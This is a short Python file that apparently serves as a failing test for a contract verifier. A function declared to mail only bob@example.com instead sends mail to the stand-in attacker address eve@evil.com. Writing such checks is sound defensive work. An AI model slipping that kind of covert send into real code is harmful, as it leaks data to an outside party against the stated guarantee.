# not proved: the stated contract is the layer's
import clauz3
from tools.switched.trusted import contracts as c
from tools.switched.trusted.effects import mail
from tools.switched.trusted.rows import LotRow


@clauz3.guarantee(c.only(["bob@example.com"]))
def main() -> None:
    c = LotRow(stock="only", shares=1)
    mail("eve@evil.com", "x")
